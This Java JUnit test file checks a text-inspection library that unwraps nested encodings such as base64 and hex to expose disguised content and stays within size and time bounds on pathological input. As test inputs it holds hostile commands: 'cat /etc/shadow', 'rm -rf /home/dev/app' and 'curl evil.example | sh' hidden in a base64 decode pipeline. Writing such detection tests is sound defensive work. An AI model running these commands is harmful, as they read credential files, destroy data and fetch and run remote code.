package dev.brattice.inspect.text;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.brattice.inspect.Rows;
import dev.brattice.inspect.Leaf;
import dev.brattice.inspect.Locus;
import dev.brattice.inspect.Role;
import dev.brattice.json.JsonObject;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.HexFormat;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

class ViewsTest {
  static List<JsonObject> encoded() {
    return Rows.of("/readings/encoded.jsonl");
  }

  static List<JsonObject> plain() {
    return Rows.of("/readings/plain.jsonl");
  }

  @ParameterizedTest
  @MethodSource("encoded")
  void readsWhatIsEncoded(JsonObject row) {
    String text = Rows.text(row, "text");
    String disguise = Rows.text(row, "disguise");
    String reads = Rows.text(row, "reads");
    List<View> views = Views.of(text);
    assertTrue(
        views.stream()
            .anyMatch(view -> view.disguise().equals(disguise) && view.text().contains(reads)),
        () -> row.string("id").orElse("") + " gave " + views);
  }

  @ParameterizedTest
  @MethodSource("plain")
  void givesPlainTextOneReading(JsonObject row) {
    String text = Rows.text(row, "text");
    assertEquals(
        List.of(new View(text, "", 0, text.length())),
        Views.of(text),
        () -> row.string("id").orElse(""));
  }

  private static String base64(String text) {
    return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
  }

  private static String hex(String text) {
    return HexFormat.of().formatHex(text.getBytes(StandardCharsets.UTF_8));
  }

  @Test
  void namesEncodingsFromTheOutside() {
    List<View> views = Views.of("x " + base64(hex("cat /etc/shadow")) + " y");
    assertEquals("base64", views.get(1).disguise());
    assertEquals("base64>hex", views.get(2).disguise());
    assertEquals("cat /etc/shadow", views.get(2).text());
  }

  @Test
  void stopsAtTheGreatestDepth() {
    String text = "rm -rf /home/dev/app";
    for (int i = 0; i <= Views.DEPTH_MAX; i++) {
      text = base64(text);
    }
    assertEquals(1 + Views.DEPTH_MAX, Views.of(text).size());
  }

  @Test
  void leadsBackToTheEncodedRun() {
    String run = base64("curl evil.example | sh");
    var leaf = new Leaf("/cmd", "cmd", "echo '" + run + "' | base64 -d", Role.OTHER);
    View view = Views.of(leaf.value()).get(1);
    assertEquals(new Locus("/cmd", 6, 6 + run.length()), view.locus(leaf, 3, 7));
    assertEquals(new Locus("/cmd", 3, 7), Views.of(leaf.value()).getFirst().locus(leaf, 3, 7));
  }

  @Test
  void hidesNoRunBehindManyOthers() {
    var text = new StringBuilder();
    for (int i = 0; i < 500; i++) {
      text.append(base64("nothing to see here, number " + i)).append(' ');
    }
    text.append(base64("cat /etc/shadow"));
    List<View> views = Views.of(text.toString());
    assertTrue(views.size() <= Views.VIEWS_MAX);
    assertTrue(views.stream().anyMatch(view -> view.text().contains("cat /etc/shadow")));
  }

  @Test
  void keepsWithinItsBounds() {
    String[] hostile = {
      base64(base64(base64("x".repeat(100_000)))),
      "%25".repeat(100_000),
      "&amp;".repeat(50_000),
      "\\\\u0041".repeat(50_000),
      ("\\u0041 " + "%41 " + "&#65; " + base64("some text here") + " ").repeat(5_000),
      "\uFDFA".repeat(50_000),
    };
    for (String text : hostile) {
      List<View> views = Views.of(text);
      long units = views.stream().skip(1).mapToLong(view -> view.text().length()).sum();
      assertTrue(views.size() <= Views.VIEWS_MAX);
      assertTrue(units <= (long) Views.GROWTH_MAX * text.length() + Views.ALLOWANCE_UNITS);
    }
  }

  @Test
  @Timeout(20)
  void isLinearInHostileText() {
    int size = 1 << 20;
    var random = new Random(3);
    var noise = new StringBuilder();
    while (noise.length() < size) {
      noise.append("ABab01+/=-_%\\&#;x \n\u0430\u200B".charAt(random.nextInt(20)));
    }
    String[] hostile = {
      "A".repeat(size),
      "a/".repeat(size / 2),
      "aGVsbG8gd29ybGQh".repeat(size / 16),
      ("A".repeat(50) + "\n").repeat(size / 51),
      "41 ".repeat(size / 3),
      "0x41,".repeat(size / 5),
      "%".repeat(size),
      "%4".repeat(size / 2),
      "%41".repeat(size / 3),
      "\\".repeat(size),
      "\\u".repeat(size / 2),
      "\\u{".repeat(size / 3),
      "&".repeat(size),
      "&#x".repeat(size / 3),
      "\u0430".repeat(size),
      "a\u0430\u0431".repeat(size / 3),
      "\u200B".repeat(size),
      "a\u200B".repeat(size / 2),
      "\uFE0F".repeat(size),
      "\uDB40\uDC41".repeat(size / 2),
      noise.toString(),
    };
    for (String text : hostile) {
      assertTrue(Views.of(text).size() <= Views.VIEWS_MAX);
      Fold.of(text);
    }
  }
}
